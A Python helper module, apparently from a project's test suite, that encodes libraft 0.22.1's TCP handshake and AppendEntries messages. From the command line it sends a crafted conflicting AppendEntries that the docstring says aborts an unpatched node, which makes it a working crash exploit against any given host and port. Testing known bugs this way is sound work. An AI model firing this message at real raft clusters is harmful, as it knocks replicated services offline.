"""libraft 0.22.1's raft_uv_tcp wire format, for tests that talk to a raft port as an
outsider would (docs/replication.md, "libraft 0.22.1: the malformed AppendEntries
abort"). Not a test itself.

    python3 raft_probe.py HOST PORT [PREV_INDEX]

sends the 128-byte message that aborts an unpatched node: the handshake
(src/uv_tcp_connect.c, uvTcpEncodeHandshake) and one AppendEntries
(src/uv_encoding.c, encodeAppendEntries) of term 1000 whose previous entry is
PREV_INDEX (default 1, committed on any node) with term 999, carrying one 8-byte
command entry. A PREV_INDEX above the node's commit index is only rejected.

Only the Python standard library is used.
"""

import socket
import struct
import sys

HANDSHAKE_PROTOCOL = 1  # UV__TCP_HANDSHAKE_PROTOCOL
RAFT_APPEND_ENTRIES = 1
RAFT_COMMAND = 1


def pad8(n):
    return (n + 7) // 8 * 8


def handshake(server_id, address):
    """What a connecting node sends first: protocol, its id, its address (padded)."""
    addr = address.encode() + b"\0"
    padded = pad8(len(addr))
    return (struct.pack("<QQQ", HANDSHAKE_PROTOCOL, server_id, padded) + addr +
            b"\0" * (padded - len(addr)))


def append_entries(term, prev_index, prev_term, commit, entries):
    """One AppendEntries message (version 0); @entries: (term, type, data) tuples."""
    header = struct.pack("<QQQQ", term, prev_index, prev_term, commit)
    header += struct.pack("<Q", len(entries))
    payload = b""
    for (eterm, etype, data) in entries:
        header += struct.pack("<QBBBBI", eterm, etype, 0, 0, 0, len(data))
        payload += data + b"\0" * (pad8(len(data)) - len(data))
    header += struct.pack("<Q", 0)  # unused
    preamble = struct.pack("<BBBBIQ", RAFT_APPEND_ENTRIES, 0, 0, 0, 0, len(header))
    return preamble + header + payload


def conflicting_append(prev_index=1):
    """The message of the module docstring."""
    return handshake(99, "127.0.0.1:1") + append_entries(
        1000, prev_index, 999, prev_index, [(1000, RAFT_COMMAND, b"\0" * 8)])


def send(host, port, blob, timeout=5):
    """Sends @blob on a new connection; returns what came back before the peer closed
    or 3 s passed (a raft port answers on its own connections, so usually b"")."""
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(blob)
        s.settimeout(3)
        try:
            return s.recv(4096)
        except OSError:
            return b""


if __name__ == "__main__":
    blob = conflicting_append(int(sys.argv[3]) if len(sys.argv) > 3 else 1)
    print("sending %d bytes" % len(blob))
    send(sys.argv[1], int(sys.argv[2]), blob)
